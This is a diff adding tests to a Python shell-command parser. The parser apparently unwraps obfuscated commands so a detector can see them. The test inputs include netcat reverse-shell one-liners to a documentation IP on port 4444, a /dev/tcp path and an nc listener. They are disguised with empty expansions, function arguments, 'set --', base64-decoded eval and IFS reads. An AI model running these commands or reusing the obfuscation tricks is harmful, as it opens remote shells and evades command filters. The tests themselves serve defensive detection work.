@@ -189,7 +189,8 @@ def test_expansions_empty_in_a_fresh_shell_vanish_from_words():
                  "n$()c -e /bin/sh 198.51.100.7 4444", "n``c -e /bin/sh 198.51.100.7 4444",
                  "n$*c -e /bin/sh 198.51.100.7 4444"):
         assert [c.line for c in reader.read(text)] == ["nc -e /bin/sh 198.51.100.7 4444"], text
-    assert [c.line for c in reader.read("set -- a b; echo $1b")][-1] == "echo b"  # $1, then b
+    assert [c.line for c in reader.read("echo $1b")][-1] == "echo b"  # $1 (empty), then b
+    assert [c.line for c in reader.read("set -- a b; echo $1b")][-1] == "echo ab"  # `set --` sets $1
     assert [c.line for c in reader.read("x=$(date)")] == ["date", "assign x=$(date)"]
 
 
@@ -244,3 +245,18 @@ def test_arithmetic_in_words_is_evaluated_when_known():
     assert [(c.name, c.args) for c in reader.read("python$((3)) -c pass")] == [("python3", ["-c", "pass"])]
     assert reader.read("p=4440; echo /dev/tcp/h/$((p+4))")[-1].args == ["/dev/tcp/h/4444"]
     assert reader.read("echo $((n+1))")[-1].args == ["$((n+1))"]  # unknown: as written
+
+
+def test_positional_parameters_of_functions_and_set():
+    reader = ShellReader()
+    cmds = reader.read('f(){ nc "$@"; }; f -e /bin/sh 198.51.100.7 4444')
+    assert ("nc", ["-e", "/bin/sh", "198.51.100.7", "4444"]) in [(c.name, c.args) for c in cmds]
+    assert ("nc", ["-lvp"]) in [(c.name, c.args) for c in reader.read("g(){ $1 $2; }; g nc -lvp")]
+    assert [c.line for c in reader.read('set -- nc -e /bin/sh h 1; "$@"')][-1] == "nc -e /bin/sh h 1"
+    assert len(reader.read("h(){ h; }; h")) < 10  # a function calling itself is read once more, not forever
+
+
+def test_what_eval_and_read_assign_stays_set():
+    reader = ShellReader()
+    assert [c.line for c in reader.read('eval "$(echo ZXhwb3J0IFg9bmM= | base64 -d)"; $X -e sh')][-1] == "nc -e sh"
+    assert [c.line for c in reader.read('IFS=: read -r a b <<< "nc:x"; $a -e sh')][-1] == "nc -e sh"
